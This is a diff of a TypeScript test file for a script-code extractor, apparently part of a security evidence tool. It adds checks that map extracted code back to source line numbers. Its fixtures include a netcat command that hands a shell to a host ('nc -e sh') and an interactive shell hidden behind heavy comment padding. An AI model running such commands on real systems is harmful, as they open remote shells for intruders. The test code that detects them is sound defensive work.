@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { memoryEvidence } from '../../../main/evidence/memory-evidence.ts';
 import { ScriptCode } from '../../../main/sources/unix/script-code.ts';
+import { lineOfRow } from '../../../shared/unix/code-lines.ts';
 
 function codeOf(path: string, content: string | Uint8Array) {
   const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content;
@@ -13,6 +14,7 @@ describe('the code of scripts', () => {
       '#!/usr/bin/env bash\n# explains\n\n  run --now \\\n    --fast\n//usr/bin/nc -e sh x\nexit 0\n';
     expect(codeOf('/opt/x/run', text)).toEqual({
       code: 'run --now     --fast\n//usr/bin/nc -e sh x\nexit 0',
+      lines: '4, 6-7',
       language: 'sh',
       byItself: true,
       leftOut: false,
@@ -29,7 +31,12 @@ describe('the code of scripts', () => {
   });
 
   it('keeps beginning and end of a long script', () => {
-    const code = codeOf('/opt/x', `#!/bin/sh\nfirst\n${'echo in between\n'.repeat(5_000)}last\n`)?.code ?? '';
+    const text = `#!/bin/sh\nfirst\n${'echo in between\n'.repeat(5_000)}last\n`;
+    const { code = '', lines = '' } = codeOf('/opt/x', text) ?? {};
+    const rows = code.split('\n');
+    expect(lineOfRow(lines, 0)).toBe(2);
+    expect(lineOfRow(lines, rows.indexOf('[…]'))).toBeNull();
+    expect(lineOfRow(lines, rows.length - 1)).toBe(5_003);
     expect(code.startsWith('first\n')).toBe(true);
     expect(code.endsWith('\nlast')).toBe(true);
     expect(code.length).toBeLessThan(17_000);
@@ -37,7 +44,9 @@ describe('the code of scripts', () => {
 
   it('reads the end of one that is padded', () => {
     const text = `#!/bin/sh\n${'# nothing to see here\n'.repeat(40_000)}/bin/sh -i\n`;
-    expect(codeOf('/opt/x', text)?.code).toBe('/bin/sh -i');
+    const padded = codeOf('/opt/x', text);
+    // The lines between were not read, so that nobody knows which one it is.
+    expect([padded?.code, padded?.lines]).toEqual(['/bin/sh -i', '']);
   });
 
   it('counts a script for each service that starts it, and takes a text for a script only where it is run', () => {
